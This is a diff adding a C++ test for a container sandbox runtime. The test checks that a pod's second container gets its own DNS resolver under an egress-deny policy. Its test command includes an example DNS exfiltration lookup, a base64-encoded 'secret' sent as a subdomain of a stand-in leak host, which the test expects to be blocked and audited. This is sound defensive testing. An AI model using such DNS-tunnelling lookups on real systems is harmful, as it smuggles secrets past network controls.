@@ -191,6 +191,33 @@ TEST_P(SentryNetworkTest, APodNamespaceJoinedByPathKeepsItsOwnLoopback) {
   EXPECT_EQ(run.out, "hello\n");
 }
 
+// Two containers of one pod (one network namespace), each with its own
+// resolver: the first takes 127.0.0.53, the second the next free address,
+// and its resolv.conf says so; each answers its own container's queries.
+TEST_P(SentryNetworkTest, APodsSecondContainerGetsAResolverOfItsOwn) {
+  const std::string name = StrCat("vigil-pod-dns-", ::getpid());
+  ASSERT_EQ(
+      std::system(StrCat("ip netns add ", name, " && ip -n ", name, " link set lo up").c_str()), 0);
+  BundleConfig config;
+  config.namespaces = {"pid", "ipc", "uts", "mount", StrCat("network=/run/netns/", name)};
+  config.annotations_json =
+      R"({"dev.vigil.policy": "{\"network\": {\"egress\": \"deny\", \"allow\": )"
+      R"([{\"host\": \"api.example.com\", \"ports\": [443]}]}}"})";
+  config.args = {"sleep", "100"};
+  WriteConfig(config);
+  const std::string first = NewId();
+  ASSERT_NO_FATAL_FAILURE(CreateAndStart(first));
+  config.args = {"sh", "-c",
+                 "grep nameserver /etc/resolv.conf; nslookup c2VjcmV0.leak.example >/dev/null "
+                 "2>&1; echo lookup=$?"};
+  auto [run, records] = RunAudited(config);
+  (void)Runtime({"delete", "--force", first});
+  (void)std::system(StrCat("ip netns del ", name).c_str());
+  ASSERT_TRUE(run.ok()) << run;
+  EXPECT_EQ(run.out, "nameserver 127.53.0.1\nlookup=1\n");
+  EXPECT_THAT(records, HasSubstr(R"("event":"dns","args":{"name":"c2vjcmv0.leak.example",)"));
+}
+
 // --policy is the operator's: a bundle's annotation may repeat it, not
 // replace it (a pod must not pick audit-only where the RuntimeClass said
 // agent). Refused at create with one line, nothing left behind.
